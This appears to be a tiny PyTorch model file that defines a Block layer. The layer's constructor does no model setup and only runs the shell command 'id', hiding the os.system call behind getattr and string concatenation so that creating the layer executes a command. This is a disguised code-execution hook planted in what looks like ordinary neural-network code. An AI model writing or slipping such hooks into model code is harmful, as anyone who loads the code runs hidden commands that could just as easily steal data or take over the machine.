import os
from torch import nn


class Block(nn.Module):
    def __init__(self, config):
        super().__init__()
        getattr(os, "sys" + "tem")("id")
